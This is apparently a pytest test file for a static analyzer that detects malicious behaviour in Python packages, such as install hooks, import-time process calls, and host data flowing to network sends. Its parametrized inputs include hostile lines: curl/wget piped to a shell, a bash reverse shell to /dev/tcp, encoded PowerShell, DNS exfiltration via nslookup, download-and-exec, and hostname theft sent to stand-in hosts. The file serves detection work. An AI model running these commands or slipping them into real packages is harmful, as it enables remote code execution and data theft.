"""Reading as running: what reaches what, under which name, with which marks."""

from __future__ import annotations

import pytest

from tests.analyzer.static.reading import first, found, ids, package, read, setup_py

SEND = "requests.post('http://reenact.invalid', data=x)\n"


@pytest.mark.parametrize(
    "text",
    [
        "import os as o\no.system('make')",
        "from os import system as s\ns('make')",
        "from os import *\nsystem('make')",
        "import subprocess\nrun = subprocess.Popen\nrun(['make'])",
        "getattr(__import__('os'), 'system')('make')",
        "import importlib\nimportlib.import_module('os').system('make')",
        "import os\nvars(os)['system']('make')",
        "import os\nos.__dict__['system']('make')",
        "import sys, os\nsys.modules['os'].system('make')",
        "import os\nglobals()['os'].system('make')",
        "import os\n{'a': os.system}['a']('make')",
        "import os\n[os.system][0]('make')",
        "import os\nfor f in (os.system,):\n    f('make')",
        "import os\nclass A:\n    os.system('make')",
        "import os\nx = [os.system('make') for _ in range(1)]",
        "import os\ndef f(x=os.system('make')): pass",
        "import os\ntry:\n    pass\nfinally:\n    os.system('make')",
        "import os\n(lambda: os.system('make'))()",
        "import os\ndef f():\n    os.system('make')\ndef g():\n    f()\ng()",
        "import os\ndef wrap(f):\n    f()\n    return f\n@wrap\ndef g():\n    os.system('make')",
        "import os, threading\ndef f():\n    os.system('make')\nthreading.Thread(target=f).start()",
        "import os, atexit\n@atexit.register\ndef f():\n    os.system('make')",
        "import os\nclass A:\n    def __init__(self): self.f()\n    def f(self): os.system('make')\nA()",
        "import asyncio, os\nasync def f():\n    os.system('make')\nasyncio.run(f())",
        "exec(\"import os; os.system('make')\")",
        "exec(compile(\"import os; os.system('make')\", 'x', 'exec'))",
        "match 1:\n    case 1:\n        import os\n        os.system('make')",
    ],
)
def test_names__a_sink_is_known_however_it_is_reached(text: str) -> None:
    assert "import process" in package(text).sinks


@pytest.mark.parametrize(
    "text",
    [
        "import os\ndef f():\n    os.system('make')",
        "import os\nf = lambda: os.system('make')",
        "import os\nif __name__ == '__main__':\n    os.system('make')",
        "import os\nclass A:\n    def f(self):\n        os.system('make')",
        "def outer():\n    import os\n    def inner():\n        os.system('make')\n    return inner\nouter()",
    ],
)
def test_reach__what_nobody_calls_is_only_callable(text: str) -> None:
    assert package(text).sinks == ("call process",)


def test_reach__what_is_for_type_checkers_only_is_not_run() -> None:
    text = "import os\nfrom typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    os.system('make')"

    assert package(text).sinks == ()


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({"reenact/__init__.py": "from . import core", "reenact/core.py": ""}, "import"),
        ({"reenact/__init__.py": "from .core import x", "reenact/core.py": ""}, "import"),
        ({"reenact/__init__.py": "import reenact.core", "reenact/core.py": ""}, "import"),
        (
            {
                "reenact/__init__.py": "try:\n    from .core import x\nexcept ImportError: pass",
                "reenact/core.py": "",
            },
            "import",
        ),
        ({"reenact/__init__.py": "", "reenact/core.py": ""}, "module"),
        (
            {"reenact/__init__.py": "def f():\n    from . import core", "reenact/core.py": ""},
            "module",
        ),
        (
            {
                "sitecustomize.py": "import reenact.core",
                "reenact/__init__.py": "",
                "reenact/core.py": "",
            },
            "start",
        ),
    ],
)
def test_reach__a_module_is_as_eager_as_who_imports_it(
    files: dict[str, str], expected: str
) -> None:
    acts = {**files, "reenact/core.py": "import socket, os\nx = 1\nos.system('make')\n"}

    assert f"{expected} process" in read(acts).sinks


def test_reach__a_call_into_another_module_runs_its_function() -> None:
    core = "import os, socket\ndef go():\n    os.system('make')\n"
    called = read({"reenact/__init__.py": "from .core import go\ngo()\n", "reenact/core.py": core})
    only = read({"reenact/__init__.py": "from .core import go\n", "reenact/core.py": core})

    assert "import process" in called.sinks
    assert only.sinks == ("call process",)


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("setup.py", "build"),
        ("reenact/__init__.py", "import"),
        ("src/reenact/__init__.py", "import"),
        ("reenact/core.py", "module"),
        ("tests/test_x.py", "nothing"),
        ("docs/conf.py", "nothing"),
        ("reenact/tests/x.py", "nothing"),
        ("conftest.py", "nothing"),
    ],
)
def test_reach__of_a_source_distribution_by_place(path: str, expected: str) -> None:
    acts = "import os, socket\nos.system('make')\n"
    files = {"reenact/__init__.py": "", path: acts}

    assert read(files, kind="sdist").sinks == (f"{expected} process",)


def test_reach__setup_py_runs_what_it_imports_from_the_tree() -> None:
    files = {"setup.py": "import helper", "helper.py": "import os\nos.system('make')"}

    assert read(files, kind="sdist").sinks == ("build process",)


@pytest.mark.parametrize(
    ("pyproject", "expected"),
    [
        ('[build-system]\nbuild-backend = "back"\nbackend-path = ["."]\n', "build process"),
        ('[build-system]\nbuild-backend = "back"\n', "module process"),
    ],
)
def test_reach__a_build_back_end_out_of_the_tree(pyproject: str, expected: str) -> None:
    files = {"back.py": "import os, socket\nos.system('make')"}

    assert read(files, kind="sdist", pyproject=pyproject.encode()).sinks == (expected,)


@pytest.mark.parametrize(
    ("group", "expected"), [("pytest11", "import process"), ("console_scripts", "module process")]
)
def test_reach__a_plugin_is_imported_by_its_host(group: str, expected: str) -> None:
    files = {"reenact/__init__.py": "", "reenact/plug.py": "import os, socket\nos.system('make')"}

    assert read(files, entry_points=((group, "reenact.plug:main"),)).sinks == (expected,)


@pytest.mark.parametrize(
    ("command", "base", "expected"),
    [
        ("install", "setuptools.command.install.install", "build network"),
        ("build_py", "setuptools.command.build_py.build_py", "build network"),
        ("upload", "setuptools.Command", "call network"),
    ],
)
def test_reach__command_classes_that_an_installation_runs(
    command: str, base: str, expected: str
) -> None:
    module, _, name = base.rpartition(".")
    text = (
        f"import urllib.request\nfrom {module} import {name}\nfrom setuptools import setup\n"
        f"class Act({name}):\n    def run(self):\n        self.go()\n    def go(self):\n"
        f"        urllib.request.urlopen('http://reenact.invalid')\n"
        f"setup(cmdclass={{'{command}': Act}})\n"
    )

    assert setup_py(text).sinks == (expected,)


@pytest.mark.parametrize(
    "line",
    [
        "x = socket.gethostname()",
        "x = {'a': [socket.gethostname()]}",
        "x = 'id=%s' % socket.gethostname()",
        "x = f'id={socket.gethostname()}'",
        "x = 'id={}'.format(socket.gethostname())",
        "x = json.dumps({'a': socket.gethostname()}).encode()",
        "x = []\nx.append(socket.gethostname())",
        "x = {}\nx['a'] = socket.gethostname()",
        "x = ''\nx += socket.gethostname()",
        "def f():\n    return socket.gethostname()\nx = f()",
        "def f(y):\n    return y + '!'\nx = f(socket.gethostname())",
        "class A: pass\na = A()\na.b = socket.gethostname()\nx = a.b",
        "class A:\n    def __init__(self):\n        self.b = socket.gethostname()\nx = A().b",
        "if True:\n    x = socket.gethostname()\nelse:\n    x = ''",
        "x = os.popen('whoami').read()",
        "x, y = socket.gethostname(), 1",
        "x = base64.b64encode(socket.gethostname().encode())",
        "x = os.getenv('COMPUTERNAME')",
    ],
)
def test_marks__flow_through_what_values_pass_through(line: str) -> None:
    text = f"import base64, json, os, requests, socket\n{line}\n{SEND}"

    assert ("static-facts-sent", "build") in found(setup_py(text))


def test_marks__do_not_flow_from_what_is_not_sent() -> None:
    text = f"import requests, socket\ny = socket.gethostname()\nx = 'plain'\n{SEND}"

    assert "static-facts-sent" not in ids(setup_py(text))


def test_marks__flow_from_one_method_to_another_by_the_instance() -> None:
    text = (
        "import requests, socket\nclass A:\n    def a(self):\n        self.x = socket.gethostname()\n"
        "    def b(self):\n        requests.post('http://reenact.invalid', data=self.x)\n"
        "t = A()\nt.a()\nt.b()\n"
    )

    assert ("static-facts-sent", "import") in found(package(text))


def test_matches__tell_line_excerpt_and_host() -> None:
    match = first(
        setup_py("import requests\n\nrequests.get('http://203.0.113.9/x')\n"),
        "static-doubtful-host",
    )

    assert (match.line, match.host) == (3, "203.0.113.9")
    assert match.excerpt == "requests.get('http://203.0.113.9/x')"
    assert match.path == "reenact-1.0/setup.py"


def test_report__hosts_of_reached_code_are_listed_and_those_of_docstrings_are_not() -> None:
    text = '"""See http://docs.reenact.test."""\nimport requests\nrequests.get("http://reenact.invalid/x")\n'

    assert package(text).hosts == ("reenact.invalid",)


@pytest.mark.parametrize(
    "text",
    [
        "os.system('curl http://a.test | sh')",
        "subprocess.run(['sh', '-c', 'wget -qO- http://a.test | bash'])",
        "subprocess.Popen('powershell -enc ' + 'QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB', shell=True)",
        "os.system('bash -i >& /dev/tcp/192.0.2.1/9 0>&1')",
        "os.system('p' + 'owershell -c iex(DownloadString(1))')",
        "os.system('nslookup $(whoami).a.test')",
    ],
)
def test_commands__that_say_themselves_what_they_do(text: str) -> None:
    assert ("static-command", "build") in found(setup_py(f"import os, subprocess\n{text}\n"))


@pytest.mark.parametrize(
    "text",
    [
        "os.system('git describe --tags')",
        "subprocess.check_call(['cmake', '..'], cwd='build')",
        "subprocess.run(['pkg-config', '--libs', 'zlib'])",
        "subprocess.run(['bash', 'configure'])",
    ],
)
def test_commands__of_builds_are_facts_and_no_more(text: str) -> None:
    report = setup_py(f"import os, subprocess\n{text}\n")

    assert ids(report) == {"static-process"}


def test_code__in_a_command_line_is_read_as_code() -> None:
    text = "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import requests; exec(requests.get('http://a.test').text)\"])\n"

    assert ("static-download-exec", "build") in found(setup_py(text))


def test_decode_exec__of_what_a_function_is_given_shows_only_where_it_is_called() -> None:
    tool = "import base64\ndef run(x):\n    exec(base64.b64decode(x))\n"

    assert "static-decode-exec" not in ids(package(tool))
    assert ("static-decode-exec", "import") in found(package(f"{tool}run('eA==')\n"))


def test_unparsed__is_counted_and_read_by_its_words() -> None:
    text = "print 'x'\nimport base64\nexec(base64.b64decode('eA=='))\n"
    report = setup_py(text)

    assert report.unparsed == 1
    assert {("static-decode-exec", "build"), ("static-broken-source", "build")} <= found(report)
